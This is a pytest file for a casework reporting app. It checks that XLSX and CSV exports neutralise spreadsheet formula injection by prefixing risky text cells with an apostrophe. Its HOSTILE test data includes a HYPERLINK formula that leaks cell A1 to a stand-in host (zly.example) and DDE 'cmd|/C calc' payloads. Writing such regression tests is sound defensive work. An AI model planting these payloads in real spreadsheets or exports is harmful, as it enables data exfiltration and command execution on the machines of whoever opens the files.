"""Formula injection in XLSX/CSV exports (issue 17, low finding): a text cell beginning with = + - @, a tab or a
carriage return is exported with a leading apostrophe (OWASP), in every spreadsheet export; numbers stay numbers."""
import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from casework.core import worktime
from casework.core.cells import safe_cell
from casework.core.periods import year
from casework.extensions import db
from casework.indicators import exports as indicator_exports
from casework.reports import document
from casework.visits import exports as visit_exports
from tests.reports.test_reports import centre  # noqa: F401 - fixture

HOSTILE = ["=HYPERLINK(\"http://zly.example/?\"&A1,\"Kliknij\")", "+48 600 000 000", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_injection_one_escape(text):
    assert safe_cell(text) == "'" + text
    for value in (-5, -2.5, 0, 3, None, date(2025, 1, 1), "Kowalscy", "-", "-5", "+1,5", "AR/2025/1"):
        assert safe_cell(value) == value  # numbers (negative ones too), dates and plain text are left alone


def _xlsx_cells(data: bytes) -> list:
    return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value is not None]


def test_formula_injection_in_the_ministry_report_xlsx_and_csv(client, login_as, centre):  # noqa: F811
    """The finding: a ministry-row label starting with `=` became a formula in the XLSX."""
    from casework.reports.models import MinistryRow

    login_as("coordinator")
    row = db.session.scalar(db.select(MinistryRow).where(MinistryRow.code == "AR_FAMILIES_SUPPORTED"))
    response = client.post("/reports/ministry-rows", data={"row_id": row.id, "section": row.section,
                                                           "position": row.position, "label": HOSTILE[0],
                                                           "code": "AR_FAMILIES_SUPPORTED"})
    assert response.status_code in (200, 302)
    cells = _xlsx_cells(client.get("/reports/r/ministry/export.xlsx?year=2025&half=1").data)
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    label = next(c for c in cells if HOSTILE[0] in str(c.value))
    assert label.value == "'" + HOSTILE[0]
    value = label.offset(column=1).value
    assert value == 3 and isinstance(value, int)  # the number beside it stays a number
    lines = list(csv.reader(io.StringIO(client.get("/reports/r/ministry/export.csv?year=2025&half=1")
                                        .get_data(as_text=True)), delimiter=";"))
    # one line per cell after the row number: the label's cell, then the half-year's value
    assert any(line[2] == row.number + "." and line[4] == "'" + HOSTILE[0] for line in lines)
    assert any(line[2] == row.number + "." and line[4] == "3" for line in lines)


def test_formula_injection_in_every_renderer_numbers_stay_numbers():
    report = document.Report("r", HOSTILE[3], HOSTILE[1], {}, [document.Section(
        HOSTILE[4], paragraphs=[HOSTILE[5]], tables=[document.Table(
            ["Wiersz", HOSTILE[2]], [[document.Cell(HOSTILE[0]), document.Cell(-7)],
                                   [document.Cell("Kowalscy"), document.Cell(-2.5)]], title=HOSTILE[1])])])
    cells = _xlsx_cells(document.to_xlsx(report))
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]
    assert all(t.startswith("'") for t in texts if t.lstrip("'") in HOSTILE) and "Kowalscy" in texts
    assert {t.lstrip("'") for t in texts} >= set(HOSTILE)
    assert [c.value for c in cells if not isinstance(c.value, str)] == [-7, -2.5]
    lines = list(csv.reader(io.StringIO(document.to_csv(report)), delimiter=";"))
    assert lines[1][:5] == ["'" + HOSTILE[4], "'" + HOSTILE[1], "'" + HOSTILE[0], "'" + HOSTILE[2], "-7"]
    assert lines[2][2:5] == ["Kowalscy", "'" + HOSTILE[2], "-2.5"]


def test_formula_injection_in_indicator_and_timesheet_exports():
    rows = [{"code": "X.=1", "label": HOSTILE[0], "value": -4, "previous": None},
            {"code": "Y", "label": "Rodziny", "value": 2, "previous": -1}]
    headers = ("kod", "@nazwa", "wartość", "poprzednio")
    lines = list(csv.reader(io.StringIO(indicator_exports.to_csv(year(2025), rows, headers)), delimiter=";"))
    assert lines == [["kod", "'@nazwa", "wartość", "poprzednio"], ["X.=1", "'" + HOSTILE[0], "-4", ""],
                     ["Y", "Rodziny", "2", "-1"]]
    cells = _xlsx_cells(indicator_exports.to_xlsx(year(2025), rows, headers, "=tytuł"))
    assert not [c for c in cells if c.data_type == "f"]
    assert {"'=tytuł", "'@nazwa", "'" + HOSTILE[0]} <= {c.value for c in cells}
    assert -4 in [c.value for c in cells] and -1 in [c.value for c in cells]

    sheet = worktime.Sheet(date(2025, 3, 1), date(2025, 3, 31),
                           [worktime.WorkRow(date(2025, 3, 3), "visits", "=1+1 @Nowak", "+cmd", 2, 90)],
                           [("visits", "Wizyty")])
    cells = _xlsx_cells(visit_exports.timesheet_xlsx(sheet, "-Agata+1", "Karta",
                                                     ("Dzień", "Rodzaj", "Rodzina", "Opis", "N", "h")))
    assert not [c for c in cells if c.data_type == "f"]
    assert {"'-Agata+1", "'=1+1 @Nowak", "'+cmd"} <= {c.value for c in cells} and 1.5 in [c.value for c in cells]


def test_formula_injection_in_the_import_template_dictionary_labels(make_user):
    from openpyxl import load_workbook as load

    from casework.core.dictionaries import DictionaryEntry
    from casework.importer import services

    entry = db.session.scalars(db.select(DictionaryEntry).where(DictionaryEntry.active.is_(True))).first()
    entry.label_pl = "=HYPERLINK(\"http://zly.example\")"
    db.session.commit()
    values = load(io.BytesIO(services.template_workbook()))["słowniki"]
    labels = [row[3] for row in values.iter_rows(values_only=True)]
    assert "'=HYPERLINK(\"http://zly.example\")" in labels
